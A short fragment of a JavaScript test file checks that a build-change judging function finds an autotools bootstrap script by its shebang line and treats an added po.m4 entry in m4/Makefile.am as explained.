  it('finds the bootstrap script whatever it is called, by its #! line', async () => {
    const gitcompile = '#!/bin/bash\ngettextize -c -f --no-changelog\nautoreconf -fi\n'
    expect((await judged('m4/Makefile.am', m4Before, m4Before.replace('nls.m4 ', 'nls.m4 po.m4 '), { gitcompile }))?.outcome).toBe('explained')
  })
})

